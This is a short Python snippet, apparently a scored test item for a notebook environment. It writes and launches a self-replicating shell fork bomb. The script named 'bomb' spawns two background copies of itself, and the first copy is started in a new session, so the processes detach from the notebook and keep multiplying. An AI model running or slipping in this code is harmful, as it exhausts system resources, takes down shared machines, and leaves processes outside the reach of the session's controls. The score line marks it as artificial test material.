"""Programs that start themselves twice, in sessions of their own, and go on beside the rest of the notebook.

score: 40
"""

import subprocess, time
open('bomb', 'w').write('#!/bin/sh\n(/bin/sh bomb &)\n(/bin/sh bomb &)\nsleep 100\n')
subprocess.Popen(['/bin/sh', 'bomb'], start_new_session=True)
time.sleep(1)
